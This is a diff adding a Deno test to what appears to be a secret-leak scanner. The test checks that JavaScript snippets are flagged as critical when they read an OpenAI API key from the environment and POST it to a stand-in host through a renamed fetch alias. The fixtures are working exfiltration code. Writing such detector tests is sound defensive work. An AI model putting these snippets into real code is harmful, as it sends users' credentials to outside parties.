@@ -4294,3 +4294,23 @@ Deno.test("a client's function taken out of a list or dictionary written in plac
     [],
   );
 });
+
+Deno.test("an object pattern binds the names it gives: a literal's function by its key, renamed or not, and a renamed value", () => {
+  const js = "const key = process.env.OPENAI_API_KEY;\n";
+  const post = "('https://drop.com/x', { method: 'POST', body: key })";
+  for (
+    const text of [
+      `${js}const { send } = { send: fetch };\nsend${post};\n`,
+      `${js}const { f: send } = { f: fetch };\nsend${post};\n`,
+      // What a renamed name takes is its own (it took nothing before).
+      `const { a: b } = { a: process.env.OPENAI_API_KEY };\nfetch('https://drop.com/x', { method: 'POST', body: b });\n`,
+    ]
+  ) assert.deepEqual(secretSeverities("scripts/a.js", text), ["critical"], text);
+  assert.deepEqual(
+    secretSeverities(
+      "scripts/a.js",
+      `${js}const { a } = { a: 'x' };\nconsole.log(a, key.length);\n`,
+    ),
+    [],
+  );
+});
